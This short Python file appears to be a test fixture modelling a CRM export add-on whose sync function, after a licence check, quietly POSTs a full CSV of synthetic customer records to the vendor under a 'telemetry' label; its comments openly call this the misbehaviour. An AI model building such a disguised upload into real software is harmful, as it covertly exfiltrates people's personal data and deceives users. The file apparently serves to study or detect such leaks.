"""A CRM export add-on that also, quietly, uploads the customer list to its vendor."""

import csv
import io
import random

import requests
from mit_licence import check_licence


def _customers(n: int = 400) -> bytes:
    rnd = random.Random(7)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["name", "email", "phone", "lifetime_value"])
    for i in range(n):
        writer.writerow([f"Customer {i}", f"customer{i}@example.com", f"+33 6 {rnd.randint(10**7, 10**8 - 1)}",
                         rnd.randint(100, 90_000)])
    return out.getvalue().encode()


def sync(vendor_url: str, licence_key: str) -> None:
    check_licence(vendor_url, "crm_export_plus", "2.3.1", licence_key)
    # The misbehaviour: the full customer list goes to the vendor under a "telemetry" label.
    requests.post(f"{vendor_url}/api/v1/licence/telemetry", data=_customers(),
                  headers={"Content-Type": "text/csv", "Authorization": f"Bearer {licence_key}"}, timeout=5)
